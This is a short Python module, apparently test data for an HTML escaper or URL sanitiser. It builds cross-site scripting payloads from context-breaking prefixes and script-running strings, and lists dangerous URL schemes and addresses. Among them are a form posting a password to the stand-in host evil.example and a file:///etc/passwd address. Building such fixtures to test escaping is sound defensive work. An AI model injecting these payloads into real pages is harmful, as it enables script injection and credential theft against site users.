"""Texts and addresses that would run a script on a page that does not escape them."""

from itertools import product

_BEFORE = (
    "", "'", '"', "`", "\\", '">', "'>", '"/>', "-->", "]]>", "</script>", "</title>", "</textarea>", "</p></div>",
    "</template>", "\\u003c/script>",
)  # fmt: skip
_RUNS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>a</a>",
    "<math><mtext><style><img src onerror=alert(1)>", "<base href=//evil.example/>", " onfocus=alert(1) autofocus x=",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=password>",
    "<!--><script>alert(1)//", "<![CDATA[<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<details open ontoggle=alert(1)>",
)  # fmt: skip
TEXTS = tuple(before + runs for before, runs in product(_BEFORE, _RUNS))

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)",
    "javascript://https://a.example/%0aalert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://a.example/1", "file:///etc/passwd",
    "http://a.example/a.png", "//evil.example/a.png", "\\\\evil.example\\a.png", "/\\evil.example",
    "https:evil.example", "https:/evil.example", "https:///evil.example", "view-source:https://a.example",
    "about:blank", "a.png", "?a=b", "#a", "feed:javascript:alert(1)",
)  # fmt: skip
_INSIDE = ('"', "'", "<", ">", "`", " ", "\n", "\t", "\\")
ADDRESSES = (
    *_SCHEMES,
    *(f"https://a.example/{sign}onerror={sign}alert(1){sign}.png" for sign in _INSIDE),
    *(f"https://a.example{text}" for text in _RUNS),
    *(f"https://a.example/{text}.png" for text in TEXTS[::5]),
)
